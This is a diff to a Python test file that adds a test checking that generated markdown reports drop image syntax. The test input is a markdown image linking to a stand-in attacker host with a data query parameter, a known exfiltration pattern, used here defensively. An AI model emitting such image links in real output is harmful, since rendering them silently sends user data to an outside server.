@@ -288,6 +288,12 @@ async def test_redirects_are_not_followed_and_failures_say_whether_it_may_have_h
     assert len(hook.posts) == 1
 
 
+async def test_a_report_loads_nothing_when_it_is_shown(call, tmp_path):
+    image = "![x](https://evil.test/?d=s)"
+    await write_report({"name": "week.md", "title": image, "body": image}, call)
+    assert "![" not in (tmp_path / "week.md").read_text()
+
+
 async def test_a_report_is_kept_listed_and_can_be_attached(call, post, tmp_path):
     made = await write_report({"name": "week.md", "title": "Week 7", "body": "All well.\n"}, call)
     assert made["media_type"] == "text/markdown"
